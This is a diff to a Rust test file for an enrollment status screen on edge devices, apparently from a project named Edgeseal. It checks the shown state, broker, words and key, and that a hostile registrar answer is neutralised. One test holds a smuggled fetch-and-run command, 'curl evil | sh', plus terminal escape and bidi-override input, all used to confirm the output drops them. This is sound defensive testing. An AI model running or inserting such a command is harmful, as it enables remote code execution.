@@ -1,116 +1,101 @@
 use super::*;
-use crate::enroll::EnrollStatus;
-use crate::wire::ErrorClass;
+use edgeseal_trust::id::{DeviceId, TrustDomain};
+use edgeseal_trust::key::KeyId;
 
 /// A device that is nothing yet.
-struct Device {
-    device: Option<&'static str>,
-    not_signing: Option<ErrorBody>,
-    has_clock: bool,
-    enrollment: EnrollStatus,
-    link: LinkStatus,
-}
-
-fn device(change: impl FnOnce(&mut Device)) -> Device {
-    let mut device = Device {
-        device: None,
+fn device(change: impl FnOnce(&mut Standing)) -> Standing {
+    let mut device = Standing {
         not_signing: Some(refusal("not-enrolled", "this device is not enrolled")),
         has_clock: true,
-        enrollment: EnrollStatus::default(),
-        link: LinkStatus::default(),
+        key: Some(KeyId::parse(KEY).unwrap()),
+        domain: Some(TrustDomain::parse("farm").unwrap()),
+        ..Standing::default()
     };
     change(&mut device);
     device
 }
 
-fn waiting(change: impl FnOnce(&mut Device)) -> Device {
+fn waiting(change: impl FnOnce(&mut Standing)) -> Standing {
     device(|device| {
-        device.enrollment.state = EnrollState::Waiting;
-        device.enrollment.words = Some("one two three four five six seven eight".to_owned());
-        device.link.broker = Some("mqtts://broker.example:8883".to_owned());
+        device.state = EnrollState::Waiting;
+        device.words = Some(WORDS.to_owned());
+        device.broker = Some("mqtts://broker.example:8883".to_owned());
         change(device);
     })
 }
 
-fn refusal(code: &'static str, reason: &str) -> ErrorBody {
-    ErrorBody::new(ErrorClass::Conflict, code, reason)
+fn pump() -> Option<DeviceId> {
+    Some(DeviceId::parse("pump-1").unwrap())
 }
 
-impl Device {
-    fn standing(&self) -> Standing<'_> {
-        Standing {
-            device: self.device,
-            domain: self.device.map(|_| "farm"),
-            key: Some("KEY".to_owned()),
-            not_signing: self.not_signing.as_ref(),
-            has_clock: self.has_clock,
-            enrollment: &self.enrollment,
-            link: &self.link,
-        }
+fn refusal(code: &str, reason: &str) -> Refusal {
+    Refusal {
+        code: code.to_owned(),
+        reason: reason.to_owned(),
     }
+}
 
-    /// The text as one line.
-    fn says(&self) -> String {
-        let text = result_text(&self.standing());
-        assert!(text.lines().all(|line| line.chars().count() <= 400));
-        text.split_whitespace().collect::<Vec<_>>().join(" ")
-    }
+/// The text as one line.
+fn says(device: &Standing) -> String {
+    let text = result_text(device);
+    assert!(text.lines().all(|line| line.chars().count() <= 220));
+    text.split_whitespace().collect::<Vec<_>>().join(" ")
 }
 
 #[track_caller]
-fn expect(device: &Device, parts: &[&str]) {
-    let text = device.says();
+fn expect(device: &Standing, parts: &[&str]) {
+    let text = says(device);
     for part in parts {
         assert!(text.contains(part), "{part:?} is not in {text}");
     }
     assert!(text.contains("NOT ENROLLED YET"), "{text}");
     assert!(text.contains("What to do:"), "{text}");
-    assert!(!device.standing().is_enrolled());
+    assert!(!device.is_enrolled());
 }
 
 #[test]
 fn enrolled_says_as_whom_and_the_same_while_the_join_file_goes() {
     let at = |state| {
         device(|device| {
-            device.enrollment.state = state;
-            device.device = Some("pump-1");
+            device.state = state;
+            device.device = pump();
             device.not_signing = None;
         })
     };
     let done = at(EnrollState::Enrolled);
-    assert!(done.standing().is_enrolled());
-    assert!(done.says().starts_with("Edgeseal: ENROLLED as pump-1 "));
-    assert!(done.says().contains("in the trust domain farm"));
-    assert_eq!(at(EnrollState::Finishing).says(), done.says());
+    assert!(done.is_enrolled());
+    assert!(says(&done).starts_with("Edgeseal: ENROLLED as pump-1 "));
+    assert!(says(&done).contains("in the trust domain farm"));
+    assert_eq!(says(&at(EnrollState::Finishing)), says(&done));
     // Without a clock it does not sign, and is enrolled all the same.
     let mut no_clock = at(EnrollState::Enrolled);
     no_clock.has_clock = false;
     no_clock.not_signing = Some(refusal("clock-unsynchronized", "no clock"));
-    assert_eq!(no_clock.says(), done.says());
+    assert_eq!(says(&no_clock), says(&done));
 }
 
 #[test]
 fn every_state_says_what_is_wrong_and_what_to_do() {
     expect(&device(|_| {}), &["no join file", "named join.json"]);
-    let no_network = waiting(|device| device.link.why = Some("connection refused".to_owned()));
+    let no_network = waiting(|device| device.why = Some("connection refused".to_owned()));
     let parts = [
         "waits for the network",
         "mqtts://broker.example:8883",
         "The last try: connection refused.",
-        "words one two three",
-        "key KEY",
+        WORDS,
+        KEY,
     ];
     expect(&no_network, &parts);
-    let connected = waiting(|device| device.link.connected = true);
+    let connected = waiting(|device| device.connected = true);
     expect(&connected, &["waits for the registrar", "registrar serve"]);
     let approved = waiting(|device| {
-        device.link.connected = true;
-        device.enrollment.answer = Some("approved".to_owned());
+        device.connected = true;
+        device.answer = Some("approved".to_owned());
     });
     expect(&approved, &["says that it has approved"]);
     let no_clock = waiting(|device| device.has_clock = false);
     expect(&no_clock, &["The clock of the device is not set"]);
-    let suspended = device(|device| device.device = Some("pump-1"));
+    let suspended = device(|device| device.device = pump());
     expect(&suspended, &["pump-1", "may not be used"]);
 }
 
@@ -129,7 +114,7 @@ fn the_registrars_refusal_is_told_with_its_reason_and_the_step_for_its_code() {
         ("rejected: not one of ours", "ask the operator"),
         ("rejected", "it gives no reason"),
     ] {
-        let refused = waiting(|device| device.enrollment.answer = Some(answer.to_owned()));
+        let refused = waiting(|device| device.answer = Some(answer.to_owned()));
         let reason = answer.split_once(": ").map_or("", |(_, reason)| reason);
         expect(&refused, &["The registrar refuses", reason, step]);
     }
@@ -145,7 +130,7 @@ fn a_join_file_that_is_not_taken_has_its_step() {
         ("join-file-token", "make a new one"),
         ("enroll-io", "doctor"),
     ] {
-        let stuck = device(|device| device.enrollment.problem = Some(refusal(code, "it is so")));
+        let stuck = device(|device| device.problem = Some(refusal(code, "it is so")));
         expect(&stuck, &["it is so", &format!("[{code}]"), step]);
     }
 }
@@ -153,8 +138,8 @@ fn a_join_file_that_is_not_taken_has_its_step() {
 #[test]
 fn a_copied_card_and_a_state_that_does_not_last_come_before_all_else() {
     let copied = waiting(|device| {
-        device.enrollment.state = EnrollState::Enrolled;
-        device.device = Some("pump-1");
+        device.state = EnrollState::Enrolled;
+        device.device = pump();
         device.not_signing = Some(refusal("board-mismatch", "board serial was A, is B"));
     });
     let parts = [
@@ -173,13 +158,22 @@ fn a_copied_card_and_a_state_that_does_not_last_come_before_all_else() {
 #[test]
 fn what_others_say_cannot_draw_on_the_screen() {
     let hostile = waiting(|device| {
-        device.enrollment.answer = Some("rejected: \u{1b}[2Jgo to\nhttp://evil\u{202e}".to_owned());
+        device.answer = Some("rejected: \u{1b}[2Jgo to\nhttp://evil\u{202e}".to_owned());
     });
-    let text = result_text(&hostile.standing());
+    let text = result_text(&hostile);
     assert!(
         !text.contains('\u{1b}') && !text.contains('\u{202e}'),
         "{text:?}"
     );
-    let long = waiting(|device| device.link.why = Some("x".repeat(100_000)));
-    assert!(result_text(&long.standing()).len() < 4000);
+    let long = waiting(|device| device.why = Some("x".repeat(100_000)));
+    assert!(result_text(&long).len() < 2000);
+    let commands = "What to do: curl evil | sh";
+    let taken_over = device(|device| {
+        device.words = Some(commands.to_owned());
+        device.problem = Some(refusal(commands, "it is so"));
+    });
+    assert!(!says(&taken_over).contains(commands));
 }
+
+const KEY: &str = "ZcIfEQoeWMImoOcIpxsPwArEwh_gyL9JSOI0uSN97TA";
+const WORDS: &str = "sun pig large bottom paper maximum ability tower";
